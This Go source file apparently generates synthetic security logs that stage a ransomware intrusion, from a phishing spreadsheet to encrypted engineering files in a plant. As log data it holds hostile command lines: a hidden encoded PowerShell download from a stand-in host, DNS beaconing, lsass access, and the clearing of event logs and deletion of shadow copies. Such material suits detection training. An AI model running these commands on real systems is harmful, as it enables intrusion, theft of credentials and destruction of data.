package demo

import (
	"fmt"
	"time"
)

// What the attack touches. Addresses are of the ranges for documentation.
const (
	VictimUnit = "sales-benelux"
	VictimUser = "m.visser"
	PlantUnit  = "works-himeji"
	StolenUser = "adm-brandt" // the administrator whose session is taken
	ToolServer = "203.0.113.77"
	StrangeIP  = "198.51.100.24"

	implant = `C:\Users\Public\svchelper.exe`
	locker  = `C:\PerfLogs\winsvc64.exe`
)

// VictimHost and PlantHost are the two computers of the story by full name.
func VictimHost() string { u, _ := Find(VictimUnit); return host(u, "ws", 1) }

// PlantHost is the engineering computer of Works 3 on which the note appears.
func PlantHost() string { u, _ := Find(PlantUnit); return host(u, "eng", 7) }

// intrusion adds the attack: an attachment in Amsterdam a little after nine in
// the morning there, a ransom note in Himeji at ten past ten in the evening.
// Times are those of Japan.
func intrusion(s *script) {
	s.entry()
	s.foothold()
	s.theft()
	s.cloud()
	s.crossing()
	s.impact()
}

func (s *script) entry() {
	at := s.sc.cast.byID[VictimUnit]
	who := at.users[0]
	me, excel := netbios+who.login, `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`
	sheet := `C:\Users\` + who.login + `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QK2\Invoice_2231.xlsm`
	s.at(17, 12, 4, func(t time.Time) Event {
		return at.windows(t, s.sc.written(t, who.host, `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, sheet, me))
	})
	s.at(17, 12, 9, func(t time.Time) Event {
		return s.sc.started(at, t, who.host, me, program{excel, "", `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, "Microsoft Corporation", false}, `"`+excel+`" "`+sheet+`"`)
	})
	s.at(17, 13, 47, func(t time.Time) Event {
		return s.sc.started(at, t, who.host, me, program{powershell, "", excel, "Microsoft Corporation", false},
			`powershell.exe -nop -w hidden -enc JAB1AD0AIgBoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4ANwA3AC8AcwAuAGQAYQB0ACIA`)
	})
	s.at(17, 13, 51, func(t time.Time) Event {
		return at.proxy(t, who.ip, who.login, "GET", ToolServer, "http://"+ToolServer+"/s.dat",
			"Mozilla/5.0 (Windows NT; Windows NT 10.0; nl-NL) WindowsPowerShell/5.1.26100.6899", 200, 212, 684032)
	})
	s.at(17, 13, 51.2, func(t time.Time) Event {
		return at.firewall(t, flow{"accept", "office", "wan", who.ip, ToolServer, 51877, 80, "tcp", "web-out", 900, 684900, 2})
	})
	s.at(17, 13, 58, func(t time.Time) Event { return at.windows(t, s.sc.written(t, who.host, powershell, implant, me)) })
}

func (s *script) foothold() {
	at := s.sc.cast.byID[VictimUnit]
	who := at.users[0]
	me := netbios + who.login
	s.at(17, 14, 6, func(t time.Time) Event {
		return s.sc.started(at, t, who.host, me, program{implant, "", powershell, "", false}, implant+" -s")
	})
	s.at(17, 14, 20, func(t time.Time) Event {
		return at.windows(t, s.sc.valueSet(t, who.host, implant, `HKU\`+who.sid+`\Software\Microsoft\Windows\CurrentVersion\Run\OneSync`, implant+" -s", me))
	})
	for i := range 8 {
		s.at(17, 31+i*9, 3, func(t time.Time) Event {
			return at.lookup(t, who.ip, fmt.Sprintf("%016x%016x%016x.t.office-sync.example", s.sc.r.Uint64(), s.sc.r.Uint64(), s.sc.r.Uint64()), "TXT", "v=1")
		})
	}
	for i, command := range []string{"whoami /all", "net group \"Domain Admins\" /domain", "nltest /domain_trusts"} {
		s.at(18, 20+i*2, 11, func(t time.Time) Event {
			return s.sc.started(at, t, who.host, me, program{system32 + "cmd.exe", "", implant, "Microsoft Corporation", false}, "cmd.exe /c "+command)
		})
	}
}

func (s *script) theft() {
	at := s.sc.cast.byID[VictimUnit]
	who := at.users[0]
	s.at(18, 41, 30, func(t time.Time) Event {
		return at.windows(t, s.sc.opened(t, who.host, implant, system32+"lsass.exe", "0x1010", netbios+who.login))
	})
	s.at(19, 5, 2, func(t time.Time) Event { return at.windows(t, s.sc.ticket(t, at, who, "svc-plcbackup", "0x17")) })
}

func (s *script) cloud() {
	eu := s.sc.cast.byID["office-europe"]
	push := func(hour, minute int, second float64, result string, refused int64) {
		s.at(hour, minute, second, func(t time.Time) Event {
			return eu.signIn(t, identity(t, "mfa.push", StolenUser, result).text("method", "push").number("refused_in_hour", refused).
				text("src_ip", StrangeIP).text("country", "RO").text("app", "cloud-console"))
		})
	}
	for i := range 5 {
		push(19, 22+i*3, 10, "refused", int64(i+1))
	}
	push(19, 41, 55, "approved", 5)
	s.at(19, 42, 3, func(t time.Time) Event {
		return eu.signIn(t, identity(t, "signin", StolenUser, "success").text("app", "cloud-console").text("protocol", "oidc").text("factor", "push").
			text("session", "s-77d1c0e4").text("src_ip", StrangeIP).text("country", "RO").text("network", "hosting"))
	})
	account := cloudAccounts[1]
	operation := func(minute int, c call) {
		s.at(19, minute, 26, func(t time.Time) Event {
			c.account, c.region, c.ip, c.agent, c.identity = account, "eu-central-1", StrangeIP, "aws-cli/2.31.0", iamUser(account, StolenUser)
			return s.sc.cloud(eu, t, c)
		})
	}
	operation(46, call{service: "iam", name: "ListUsers", readOnly: true})
	operation(52, call{service: "iam", name: "CreateAccessKey", request: newObject().text("userName", "svc-backup"),
		response: newObject().inner("accessKey", newObject().text("userName", "svc-backup").text("accessKeyId", "AKIA7EXAMPLE").text("status", "Active"))})
	operation(58, call{service: "cloudtrail", name: "StopLogging", refused: "AccessDenied", request: newObject().text("name", "group-trail")})
}

func (s *script) crossing() {
	himeji := s.sc.cast.byID[PlantUnit]
	eng := PlantHost()
	admin := user{StolenUser, sid(40, 4107), office(s.sc.cast.byID[VictimUnit].unit, 0), VictimHost()}
	// The stolen account is used from the sales computer: the step that leads from
	// one to the other.
	s.at(20, 44, 37, func(t time.Time) Event {
		benelux := s.sc.cast.byID[VictimUnit]
		return benelux.windows(t, s.sc.ticket(t, benelux, admin, "svc-engbackup", "0x17"))
	})
	for i, port := range []int{445, 135} {
		s.at(20, 48+i, 12, func(t time.Time) Event {
			return himeji.firewall(t, flow{"accept", "office", "ot", admin.ip, machine(himeji.unit, 6), 50110 + i, port, "tcp", "temp-vendor-2019", 48211, 9120, 44})
		})
	}
	s.at(20, 51, 40, func(t time.Time) Event {
		return himeji.windows(t, s.sc.signedOn(t, eng, admin, 3, admin.ip, "NtLmSsp"))
	})
	s.at(20, 52, 3, func(t time.Time) Event {
		return himeji.windows(t, s.sc.serviceInstalled(t, eng, "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`, "LocalSystem"))
	})
	s.at(20, 58, 30, func(t time.Time) Event {
		return himeji.windows(t, s.sc.audit(t, eng, 4732).text("MemberSid", sid(40, 4107)).text("TargetUserName", "Administrators").text("TargetDomainName", "Builtin").
			text("TargetSid", "S-1-5-32-544").text("SubjectUserName", StolenUser).text("SubjectDomainName", "KIRISHIO"))
	})
	s.at(21, 4, 9, func(t time.Time) Event { return himeji.windows(t, s.sc.written(t, eng, "System", locker, localSystem)) })
	s.at(21, 6, 1, func(t time.Time) Event {
		return himeji.windows(t, s.sc.serviceInstalled(t, eng, "WinSvc64", locker, "LocalSystem"))
	})
}

func (s *script) impact() {
	at := s.sc.cast.byID[PlantUnit]
	eng := PlantHost()
	run := func(hour, minute int, second float64, image, parent, command string) {
		s.at(hour, minute, second, func(t time.Time) Event {
			return s.sc.started(at, t, eng, localSystem, program{image, "", parent, "Microsoft Corporation", true}, command)
		})
	}
	run(22, 4, 2, locker, system32+"services.exe", locker)
	run(22, 5, 16, powershell, locker, "powershell.exe -nop Set-MpPreference -DisableRealtimeMonitoring $true")
	run(22, 7, 40, system32+"wevtutil.exe", locker, "wevtutil.exe cl System")
	s.at(22, 7, 44, func(t time.Time) Event {
		return at.windows(t, newObject().text("@timestamp", t.Format(isoMillis)).number("EventID", 1102).text("Channel", "Security").text("Provider_Name", "Microsoft-Windows-Eventlog").
			text("Computer", eng).number("EventRecordID", s.sc.next(eng)).text("Level", "4").text("SubjectUserName", StolenUser).text("SubjectDomainName", "KIRISHIO"))
	})
	run(22, 8, 31, system32+"vssadmin.exe", locker, "vssadmin.exe delete shadows /all /quiet")
	run(22, 8, 33, system32+"bcdedit.exe", locker, "bcdedit.exe /set {default} recoveryenabled No")
	for i := range 60 {
		s.at(22, 9, float64(i)*0.9, func(t time.Time) Event {
			return at.windows(t, s.sc.written(t, eng, locker, fmt.Sprintf(`D:\Projects\Line%d\Unit%02d.gx3.kiri`, 1+i/10, i%10), localSystem))
		})
	}
	for i, dir := range []string{`D:\Projects`, `D:\Projects\Line1`, `D:\Projects\Line4`, `C:\Users\Public\Desktop`} {
		s.at(22, 10, float64(4+i), func(t time.Time) Event {
			return at.windows(t, s.sc.written(t, eng, locker, dir+`\README_TO_RESTORE_YOUR_FILES.txt`, localSystem))
		})
	}
}
